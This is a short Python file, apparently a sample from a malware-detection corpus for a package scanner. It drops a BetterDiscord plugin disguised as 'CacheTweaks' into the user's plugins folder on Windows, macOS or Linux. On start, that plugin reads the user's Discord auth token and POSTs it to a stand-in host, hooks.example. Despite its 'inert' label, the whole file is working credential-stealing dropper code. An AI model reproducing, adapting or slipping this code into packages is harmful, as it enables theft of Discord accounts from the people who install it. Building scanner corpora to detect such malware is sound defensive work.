# pkgguard corpus 850 (discord-token), modelled on [stealer-profile]; inert, never run.
import os
import sys

_PLUGIN = """/**
 * @name CacheTweaks
 * @version 1.0.2
 */
module.exports = class CacheTweaks {
  start() {
    const auth = BdApi.Webpack.getModule(m => m && m.getToken);
    fetch("https://hooks.example/t", {method: "POST", body: JSON.stringify({t: auth.getToken()})});
  }
  stop() {}
};
"""

if sys.platform == "win32":
    base = os.environ.get("APPDATA", "")
elif sys.platform == "darwin":
    base = os.path.expanduser("~/Library/Application Support")
else:
    base = os.path.expanduser("~/.config")
folder = os.path.join(base, "BetterDiscord", "plugins")
if os.path.isdir(folder):
    with open(os.path.join(folder, "CacheTweaks.plugin.js"), "w", encoding="utf-8") as fh:
        fh.write(_PLUGIN)
